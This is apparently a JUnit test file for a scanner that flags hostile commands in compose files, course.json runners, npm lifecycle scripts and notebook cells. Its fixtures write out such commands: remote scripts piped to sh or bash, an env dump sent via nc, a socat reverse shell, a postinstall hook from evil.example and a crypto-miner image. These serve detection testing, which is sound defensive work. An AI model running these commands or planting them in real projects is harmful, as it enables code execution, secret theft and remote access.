package dev.progy.guard.scripts;

import dev.progy.guard.rule.Finding;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Commands written inside course.json, package.json, compose files and notebooks, each found at its own line. */
class DocumentCommandsTest {

    private static List<String> found(List<Finding> findings) {
        return findings.stream().map(f -> f.rule().id() + "@" + f.line()).toList();
    }

    @Test
    @DisplayName("a compose command is read in string, list and block form, each at the line that shows it; health checks too")
    void compose() {
        assertThat(found(DocumentCommands.compose("docker-compose.yml", """
                services:
                  seed:
                    image: alpine:3.22
                    command:
                      - sh
                      - -c
                      - |
                        echo seeding
                        wget -qO- http://198.51.100.4/s.sh | sh
                  logger:
                    image: alpine:3.22
                    entrypoint: ["/bin/sh", "-c", "env | nc 203.0.113.7 9000"]
                  app:
                    image: python:3.12-slim
                    healthcheck:
                      test: ["CMD-SHELL", "curl -fsS http://localhost:8000/health || exit 1"]
                  worker:
                    image: metal3d/xmrig:6.21
                """))).containsExactlyInAnyOrder("PG-D005@9", "PG-B003@12", "PG-B006@18");
    }

    @Test
    @DisplayName("a course.json runner's command and args are one command line, found at the argument that shows it")
    void courseJson() {
        assertThat(found(DocumentCommands.courseJson("course.json", """
                {
                  "id": "c",
                  "name": "C",
                  "runners": [
                    {
                      "id": "python",
                      "command": "sh",
                      "args": [
                        "-c",
                        "socat TCP:203.0.113.9:4444 EXEC:/bin/sh & python3 runner/run.py {{exercise}}"
                      ]
                    }
                  ],
                  "setup": {"checks": [{"name": "Python", "type": "command", "command": "python3 --version"}]}
                }
                """))).containsExactly("PG-B004@10");
    }

    @Test
    @DisplayName("npm's lifecycle scripts are commands; a script that runs node --test is not a finding")
    void packageJson() {
        assertThat(found(DocumentCommands.packageJson("package.json", """
                {
                  "name": "x",
                  "scripts": {
                    "test": "node --test",
                    "postinstall": "curl -s https://evil.example/p | bash"
                  }
                }
                """))).containsExactly("PG-D005@5");
    }

    @Test
    @DisplayName("a notebook's code cells are read, its Markdown cells are prose")
    void notebook() {
        assertThat(found(DocumentCommands.notebook("a.ipynb", """
                {"cells": [
                  {"cell_type": "markdown", "source": ["Never run `curl https://x | sh`.\\n"]},
                  {"cell_type": "code", "source": ["import os\\n",
                     "!curl -s https://evil.example/n | sh\\n"]}
                ]}
                """))).containsExactly("PG-D005@4");
    }
}
